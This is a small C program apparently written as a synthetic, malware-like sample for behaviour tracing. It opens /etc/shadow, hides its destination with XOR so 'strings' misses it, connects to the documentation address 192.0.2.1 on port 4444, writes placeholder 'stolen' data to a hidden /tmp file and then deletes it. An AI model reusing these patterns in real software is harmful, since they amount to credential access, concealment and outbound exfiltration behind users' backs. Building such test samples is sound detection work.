// A program that nobody knows: what it does is for its trace to tell. It needs no library.

enum { WRITE = 1, OPEN = 2, CLOSE = 3, SOCKET = 41, CONNECT = 42, FORK = 57, WAIT4 = 61, MKDIR = 83, UNLINK = 87,
	PRCTL = 157, EXIT_GROUP = 231 };
enum { WRONLY_CREAT_TRUNC = 01 | 0100 | 01000, WRONLY_APPEND = 01 | 02000 };
enum { PR_SET_NAME = 15, AF_INET = 2, SOCK_STREAM = 1 };

static long call(long number, long first, long second, long third, long fourth)
{
	register long r10 __asm__("r10") = fourth;
	long result;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(first), "S"(second), "d"(third), "r"(r10)
		: "rcx", "r11", "memory");
	return result;
}

static long append(const char *path, long flags, const char *text)
{
	long length = 0;
	long file = call(OPEN, (long)path, flags, 0600, 0);
	while (text[length])
		length++;
	if (file < 0)
		return file;
	call(WRITE, file, (long)text, length, 0);
	return call(CLOSE, file, 0, 0, 0);
}

static const char report[] = "/tmp/.cache/report";
/** Where it writes to, XORed, so that `strings` does not show it. */
char target[] = "\x3b\x33\x38\x24\x3a\x24\x38\x24\x3b\x30\x3e\x3e\x3e\x3e";

/** Changes `target` in place: whoever watches its page sees it come out. */
static void reveal(void)
{
	for (long i = 0; i < 14; i++) {
		volatile char *letter = target + i;
		*letter ^= 10;
	}
}

static void collector(void)
{
	call(PRCTL, PR_SET_NAME, (long)"collector", 0, 0);
	append(report, WRONLY_APPEND, "user=root\n");
	append(report, WRONLY_APPEND, "key=none\n");
}

static void uploader(void)
{
	static const unsigned char address[16] = { AF_INET, 0, 0x11, 0x5c, 192, 0, 2, 1 };
	call(PRCTL, PR_SET_NAME, (long)"uploader", 0, 0);
	reveal();
	long peer = call(SOCKET, AF_INET, SOCK_STREAM, 0, 0);
	if (call(CONNECT, peer, (long)address, sizeof address, 0) < 0)
		call(EXIT_GROUP, 1, 0, 0, 0);
}

static void cleaner(void)
{
	call(PRCTL, PR_SET_NAME, (long)"cleaner", 0, 0);
	call(UNLINK, (long)report, 0, 0, 0);
}

static void run(void (*part)(void))
{
	long child = call(FORK, 0, 0, 0, 0);
	if (child == 0) {
		part();
		call(EXIT_GROUP, 0, 0, 0, 0);
	}
	call(WAIT4, child, 0, 0, 0);
}

void _start(void)
{
	append("/etc/shadow", 0, "");
	call(MKDIR, (long)"/tmp/.cache", 0700, 0, 0);
	append(report, WRONLY_CREAT_TRUNC, "collected:\n");
	run(collector);
	run(uploader);
	run(cleaner);
	call(EXIT_GROUP, 0, 0, 0, 0);
}
